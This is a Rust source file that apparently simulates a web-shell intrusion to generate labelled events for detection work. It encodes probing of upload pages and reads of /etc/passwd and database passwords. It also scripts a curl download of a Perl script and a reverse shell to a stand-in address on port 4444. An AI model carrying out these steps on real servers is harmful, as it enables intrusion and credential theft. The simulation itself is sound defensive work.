//! A quiet break-in through a web server: a page that runs commands, then a shell that connects back to the intruder.
//!
//! Events of the shells and their children are `evil` and `sus`. Those of the web server's worker, while it serves the
//! intruder's requests, are `sus` only.

use super::call::NO_SUCH_FILE;
use super::files::{CREATE, READ};
use super::host::Host;
use super::names;
use super::process::Task;
use super::text::Label;
use super::tools::{self, LIBC, Tool};
use super::workloads::Web;

const SECOND: u64 = 1_000_000;
/// The pages that the intruder tries before one of them runs commands.
const TRIED: [&str; 6] = [
    "admin/upload.php",
    "uploads/a.php",
    "cgi-bin/test.cgi",
    "old/index.php",
    "uploads/avatar.php",
    "shell.php",
];
/// The page that runs commands.
const PAGE: &str = "/var/www/html/uploads/thumb.php";
/// The script that connects back.
const SCRIPT: &str = "/dev/shm/.s.pl";
/// The commands that are run through the page, each with its argument.
static THROUGH_PAGE: [(&Tool, &str); 8] = [
    (&tools::ID, "-a"),
    (&tools::UNAME, "-a"),
    (&tools::LS, "/var/www/html"),
    (&tools::CAT, "/etc/passwd"),
    (&tools::WHOAMI, "--"),
    (&tools::PS, "aux"),
    (&tools::DF, "-h"),
    (&tools::LS, "/home"),
];
/// The number of commands in the shell that connects back after which a miner runs.
const MINING_FROM: usize = 8;
/// The commands that are run in the shell that connects back.
static IN_SHELL: [(&Tool, &str); 14] = [
    (&tools::W, "-h"),
    (&tools::CAT, "/proc/version"),
    (&tools::FIND, "-perm"),
    (&tools::SUDO, "-nl"),
    (&tools::CAT, "/etc/crontab"),
    (&tools::LS, "/srv/app"),
    (&tools::CAT, "/srv/app/config/database.yml"),
    (&tools::GREP, "password"),
    (&tools::FIND, "-writable"),
    (&tools::CRONTAB, "-l"),
    (&tools::FREE, "-m"),
    (&tools::LSCPU, "-J"),
    (&tools::WHO, "-a"),
    (&tools::RM, "-f"),
];

/// The state of the break-in between two steps.
#[derive(Default)]
pub(super) struct WebShell {
    /// The shell that connects back, once it runs.
    shell: Option<Task>,
    done: usize,
}

impl WebShell {
    /// Runs one step. Returns the mean time until the next one, in microseconds, or `None` after the last.
    pub(super) fn step(&mut self, host: &mut Host<'_, '_>, web: &Web) -> Option<u64> {
        if let Some(shell) = self.shell {
            let next = IN_SHELL.get(self.done);
            self.done += 1;
            return match next {
                Some(&(tool, argument)) => {
                    run(host, shell, tool, argument);
                    host.beacon_names(shell, self.done > MINING_FROM);
                    Some(90 * SECOND)
                }
                None => {
                    host.exit(shell);
                    None
                }
            };
        }
        let step = self.done;
        self.done += 1;
        if let Some(page) = TRIED.get(step) {
            request(host, web, |host, worker| {
                host.open_fails(worker, &format!("/var/www/html/{page}"), READ, NO_SUCH_FILE);
            });
            return Some(5 * SECOND);
        }
        match THROUGH_PAGE.get(step - TRIED.len()) {
            Some(&(tool, argument)) => {
                through_page(host, web, |host, shell| run(host, shell, tool, argument));
                Some(45 * SECOND)
            }
            None => {
                through_page(host, web, fetch_script);
                self.shell = Some(connect_back(host, web));
                self.done = 0;
                Some(60 * SECOND)
            }
        }
    }
}

/// Lets a worker serve a request of the intruder.
fn request(host: &mut Host<'_, '_>, web: &Web, body: impl FnOnce(&mut Host<'_, '_>, Task)) {
    let worker = web.worker();
    host.tasks.set_label(worker, Label::Suspicious);
    let client = host.internet([198, 51, 100, 23], 51_022);
    let connection = host.accept4(worker, 6, Some(&client));
    body(host, worker);
    host.close(worker, connection);
    host.tasks.set_label(worker, Label::Benign);
}

/// Starts a shell as a child of a worker, through the page that runs commands.
fn page_shell(host: &mut Host<'_, '_>, worker: Task) -> Task {
    host.read(worker, PAGE);
    let shell = host.fork(worker);
    host.tasks.set_label(shell, Label::Evil);
    host.exec(shell, "/bin/sh", &["sh", "-c"]);
    host.load(shell, LIBC);
    shell
}

/// Runs commands in a shell that the page starts.
fn through_page(host: &mut Host<'_, '_>, web: &Web, body: impl FnOnce(&mut Host<'_, '_>, Task)) {
    request(host, web, |host, worker| {
        let shell = page_shell(host, worker);
        body(host, shell);
        host.exit(shell);
    });
}

/// Runs a command, which reads its argument if that is a file.
fn run(host: &mut Host<'_, '_>, shell: Task, tool: &Tool, argument: &str) {
    host.command_with(shell, tool, &[argument], |host, task| {
        if argument.starts_with("/etc/") || argument.ends_with(".yml") {
            host.read(task, argument);
        }
    });
}

/// Downloads the script that connects back.
fn fetch_script(host: &mut Host<'_, '_>, shell: Task) {
    host.command_with(shell, &tools::CURL, &["-o", SCRIPT], |host, task| {
        host.resolve_name(task, names::SCRIPT_HOST);
        let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
        let server = host.internet([198, 51, 100, 23], 8_000);
        host.connect(task, fd, &server, 0);
        host.write(task, SCRIPT, CREATE);
        host.close(task, fd);
    });
    host.command(shell, &tools::CHMOD, &["+x", SCRIPT]);
}

/// Starts the script, which connects to the intruder and becomes a shell. It survives the request.
fn connect_back(host: &mut Host<'_, '_>, web: &Web) -> Task {
    let mut connected = None;
    request(host, web, |host, worker| {
        let shell = page_shell(host, worker);
        host.exec(shell, "/usr/bin/perl", &["perl", SCRIPT]);
        host.load(shell, &["libdl", "libm", "libpthread", "libc", "libcrypt"]);
        host.read(shell, SCRIPT);
        let fd = host.socket(shell, "AF_INET", "SOCK_STREAM");
        let intruder = host.internet([198, 51, 100, 23], 4_444);
        host.control_names(shell);
        host.connect(shell, fd, &intruder, 0);
        for standard in 0..3 {
            host.dup2(shell, fd, standard);
        }
        host.exec(shell, "/bin/sh", &["sh", "-i"]);
        host.load(shell, LIBC);
        connected = Some(shell);
    });
    connected.expect("the request has started the shell")
}
